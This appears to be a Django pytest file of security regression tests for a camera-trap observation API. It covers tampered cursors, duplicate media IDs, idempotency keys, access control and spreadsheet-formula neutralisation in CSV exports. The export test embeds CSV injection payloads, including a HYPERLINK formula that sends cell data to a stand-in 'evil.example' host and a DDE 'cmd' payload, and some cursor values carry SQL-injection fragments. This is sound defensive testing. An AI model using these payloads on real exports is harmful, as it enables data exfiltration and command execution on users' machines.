"""Issue 23: what the second outside probe found in camera-trap projects (tampered cursors, repeated
mediaIDs, long idempotency keys, formulas in the export, public frames, self-made quotas, sequences)."""

import base64
import csv

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from kombu.transport.memory import Channel
from rest_framework.test import APIClient

from cameratraps.camtrap_dp_export import export_camtrap_dp
from cameratraps.models import Media
from cameratraps.services import project_create, project_frames_public_set, project_member_add
from observations.classification import observation_record_result
from observations.models import Observation
from observations.tasks import BATCH_QUEUE
from tests.factories import UserFactory, jpeg_bytes
from tests.world import api_for

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fresh_counts():
    cache.clear()  # throttle counts live in the (locmem) cache
    for name in (BATCH_QUEUE, "inference"):
        Channel.queues.pop(name, None)
    yield


def send(client, project="wetlands", headers=None, **fields):
    photo = SimpleUploadedFile("frame.jpg", jpeg_bytes(), content_type="image/jpeg")
    return client.post(
        f"/api/v1/projects/{project}/observations/",
        {"photo": photo, **fields},
        format="multipart",
        headers=headers or {},
    )


@pytest.fixture
def project(users):
    project = project_create(name="wetlands", owner=users["alice"], upload_quota_per_hour=100)
    project_member_add(project=project, user=users["bob"])
    return project


def _cursor(query: str) -> str:
    return base64.b64encode(query.encode()).decode()


@pytest.mark.parametrize("cursor", ["abc", _cursor("p=abc"), _cursor("p=1e999"), _cursor("p='"), _cursor("p=1'--")])
def test_low_tampered_cursor_is_400_not_500(project, users, cursor):
    alice = api_for(users["alice"])
    assert send(alice, deployment="cam1", latitude=1, longitude=1).status_code == 202
    response = alice.get("/api/v1/projects/wetlands/observations/", {"cursor": cursor})
    assert response.status_code == 400 and response.data["error"]["code"] == "invalid_cursor"


def test_low_repeated_media_id_is_409_not_500(project, users):
    alice = api_for(users["alice"])
    assert send(alice, deployment="cam1", latitude=1, longitude=1, media_id="m1").status_code == 202
    again = send(alice, deployment="cam1", media_id="m1")
    assert again.status_code == 409 and again.data["error"]["code"] == "media_id_taken"
    assert Media.objects.count() == 1 and Observation.objects.count() == 1  # the refused frame left nothing


def test_low_project_upload_idempotency_key_over_200_characters_is_refused_not_cut(project, users):
    alice = api_for(users["alice"])
    response = send(alice, deployment="cam1", latitude=1, longitude=1, headers={"Idempotency-Key": "k" * 201})
    assert response.status_code == 400 and Media.objects.count() == 0
    assert (
        send(alice, deployment="cam1", latitude=1, longitude=1, headers={"Idempotency-Key": "k" * 200}).status_code
        == 202
    )


def test_low_camtrap_dp_export_neutralises_formulas(project, users, tmp_path):
    alice = api_for(users["alice"])
    deployment = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    made = alice.post(
        "/api/v1/projects/wetlands/deployments/",
        {"deployment_id": deployment, "latitude": 1, "longitude": 1, "camera_model": "@SUM(1+1)*cmd|' /C calc'!A0"},
        format="json",
    )
    assert made.status_code == 201
    assert send(alice, deployment=deployment, media_id="+1+1", observed_at="2024-05-01T10:00:00Z").status_code == 202
    assert send(alice, deployment=deployment, media_id="-2+3", observed_at="2024-05-01T10:00:01Z").status_code == 202
    export_camtrap_dp(project=project, out_dir=tmp_path, exact=True)
    cells = []
    for table in ("deployments", "media", "observations"):
        with (tmp_path / f"{table}.csv").open(newline="") as fh:
            cells += [cell for row in csv.reader(fh) for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@"):
            float(cell)  # only a number may start so
    assert f"'{deployment}" in cells and "'+1+1" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells


def _finished_frame(client, model_version, **fields) -> Observation:
    assert send(client, deployment="cam1", latitude=1, longitude=1, **fields).status_code == 202
    observation = Media.objects.order_by("-id").first().observation
    observation_record_result(
        observation=observation,
        model_version=model_version,
        taxon_scores={"Testus nativus": 0.9},
        top_k=[("Testus nativus", 0.9)],
    )
    return observation


def _phone_upload(client, model_version) -> Observation:
    photo = SimpleUploadedFile("p.jpg", jpeg_bytes(), content_type="image/jpeg")
    created = client.post("/api/v1/observations/", {"photo": photo, "latitude": 1, "longitude": 1}, format="multipart")
    observation = Observation.objects.get(uuid=created.data["id"])
    observation_record_result(
        observation=observation,
        model_version=model_version,
        taxon_scores={"Testus nativus": 0.9},
        top_k=[("Testus nativus", 0.9)],
    )
    return observation


def test_medium_project_frames_stay_out_of_the_anonymous_feed_unless_the_project_opts_in(
    project, users, model_version, taxa
):
    alice = api_for(users["alice"])
    frame = _finished_frame(alice, model_version)
    phone = _phone_upload(alice, model_version)
    anonymous = APIClient()

    def feed() -> set[str]:
        return {row["id"] for row in anonymous.get("/api/v1/feed/?limit=200").data["results"]}

    assert feed() == {str(phone.uuid)}
    assert anonymous.get(f"/api/v1/feed/{frame.uuid}/").status_code == 404
    project_frames_public_set(project=project, frames_public=True)  # the project opts in
    assert feed() == {str(phone.uuid), str(frame.uuid)}
    project_frames_public_set(project=project, frames_public=False)
    assert feed() == {str(phone.uuid)}


def test_medium_project_photos_and_identifications_check_membership(project, users, model_version, taxa):
    alice = api_for(users["alice"])
    frame = _finished_frame(alice, model_version)
    outsider = api_for(UserFactory(username="mallory"))
    photo, identifications = (
        f"/api/v1/observations/{frame.uuid}/photo/",
        f"/api/v1/observations/{frame.uuid}/identifications/",
    )
    assert outsider.get(identifications).status_code == 404
    assert outsider.get(photo).data["error"]["detail"] == "no such observation"
    posted = outsider.post(
        f"/api/v1/observations/{frame.uuid}/identifications/", {"taxon": "Testus nativus"}, format="json"
    )
    assert posted.status_code == 404
    bob = api_for(users["bob"])  # a member who did not upload it
    assert bob.get(identifications).status_code == 200
    # The member gets what the uploader gets (here: no served copy was built, as no worker ran).
    assert bob.get(photo).data == alice.get(photo).data and "no such observation" not in str(bob.get(photo).data)
